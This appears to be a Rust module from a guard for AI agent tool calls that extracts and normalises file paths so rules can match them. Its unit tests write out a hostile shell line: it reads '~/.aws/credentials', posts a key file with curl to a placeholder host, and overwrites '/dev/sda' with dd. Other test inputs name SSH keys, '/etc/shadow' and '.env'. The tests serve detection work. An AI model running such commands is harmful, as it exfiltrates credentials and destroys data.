//! The path-like arguments of a tool call, normalised, for `match.pathGlob`.

use serde_json::{Map, Value};

use super::shell::CommandLine;

/// `toolArgs` fields that name files for the file tools (Claude Code's `file_path` and
/// `notebook_path`, OpenClaw's `path`, and common spellings of both).
const PATH_FIELDS: &[&str] = &[
    "path",
    "file_path",
    "filePath",
    "notebook_path",
    "paths",
    "file",
    "filename",
    "source",
    "destination",
];

/// Most wildcard paths (`~/.ssh/*`) of one call tested for what they could name; a call
/// with more matches a `pathGlob` outright.
pub const MAX_WILDCARD_PATHS: usize = 32;

/// Programs whose arguments are text, not files: only their redirections name files.
const TEXT_PROGRAMS: &[&str] = &["echo", "printf"];

/// Programs that change the directory later relative paths are read from.
const DIRECTORY_CHANGERS: &[&str] = &["cd", "pushd"];

/// The path-field values of `args`, normalised.
pub(super) fn of_tool_args(args: &Map<String, Value>, out: &mut Vec<String>) {
    for field in PATH_FIELDS {
        match args.get(*field) {
            Some(Value::String(p)) => out.push(normalize(p)),
            Some(Value::Array(items)) => {
                out.extend(items.iter().filter_map(Value::as_str).map(normalize));
            }
            _ => {}
        }
    }
}

/// Every argument and redirection target of `line`'s commands that could be a path,
/// normalised; a relative path after `cd dir` also appears joined to `dir`.
pub(super) fn of_command_line(line: &CommandLine, out: &mut Vec<String>) {
    let mut cwd: Option<String> = None;
    for command in &line.commands {
        let push = |word: &str, out: &mut Vec<String>| {
            let word = word.strip_prefix('@').unwrap_or(word);
            // `--file=path`, `of=/dev/sda`
            let value = word
                .split_once('=')
                .map(|(_, v)| v.strip_prefix('@').unwrap_or(v));
            for c in std::iter::once(word).chain(value) {
                out.push(normalize(c));
                if let Some(dir) = &cwd
                    && !c.starts_with(['/', '~', '$'])
                {
                    out.push(normalize(&format!("{dir}/{c}")));
                }
            }
        };
        if !TEXT_PROGRAMS.contains(&command.program.as_str()) {
            for a in &command.args {
                push(a, out);
            }
        }
        for r in &command.redirects {
            push(&r.target, out);
        }
        if DIRECTORY_CHANGERS.contains(&command.program.as_str())
            && let Some(dir) = command.args.iter().find(|a| !a.starts_with('-'))
        {
            cwd = Some(match (&cwd, dir.starts_with(['/', '~', '$'])) {
                (Some(prev), false) => normalize(&format!("{prev}/{dir}")),
                _ => normalize(dir),
            });
        }
    }
}

/// `path` with empty and `.` components dropped and `..` applied to the component before
/// it (lexically: symbolic links are not followed).
pub fn normalize(path: &str) -> String {
    // `$HOME/x` and `${HOME}/x` are `~/x`.
    let home = ["$HOME", "${HOME}"].iter().find_map(|h| {
        path.strip_prefix(h)
            .filter(|rest| rest.is_empty() || rest.starts_with('/'))
    });
    let tilde;
    let path = match home {
        Some(rest) => {
            tilde = format!("~{rest}");
            tilde.as_str()
        }
        None => path,
    };
    let absolute = path.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();
    for component in path.split('/') {
        match component {
            "" | "." => {}
            ".." => {
                if parts.last().is_some_and(|p| *p != "..") {
                    parts.pop();
                } else if !absolute {
                    parts.push("..");
                }
            }
            c => parts.push(c),
        }
    }
    let joined = parts.join("/");
    match (absolute, joined.is_empty()) {
        (true, _) => format!("/{joined}"),
        (false, true) => ".".to_owned(),
        (false, false) => joined,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::matcher::shell;

    #[test]
    fn dots_and_repeated_separators_are_resolved() {
        for (input, want) in [
            ("~/.ssh/../.ssh/id_rsa", "~/.ssh/id_rsa"),
            ("/etc/../etc//shadow", "/etc/shadow"),
            ("./.env", ".env"),
            ("../../.env", "../../.env"),
            ("/../../etc/shadow", "/etc/shadow"),
            ("a/b/../../..", ".."),
            (".", "."),
            ("/", "/"),
            ("dir/", "dir"),
            ("$HOME/.ssh/id_rsa", "~/.ssh/id_rsa"),
            ("${HOME}", "~"),
            ("$HOMEX/a", "$HOMEX/a"),
        ] {
            assert_eq!(normalize(input), want, "{input}");
        }
    }

    #[test]
    fn shell_paths_include_redirections_option_values_and_the_directory() {
        let mut out = Vec::new();
        let line = shell::parse(
            "cd ~/.aws && cat credentials; curl -d @./key.pem x; dd if=a of=/dev/sda; echo .env > o",
        );
        of_command_line(&line, &mut out);
        for want in ["~/.aws/credentials", "key.pem", "/dev/sda", "o"] {
            assert!(out.iter().any(|p| p == want), "{want} in {out:?}");
        }
        assert!(
            !out.iter().any(|p| p == ".env"),
            "echo's text is not a path: {out:?}"
        );
    }
}
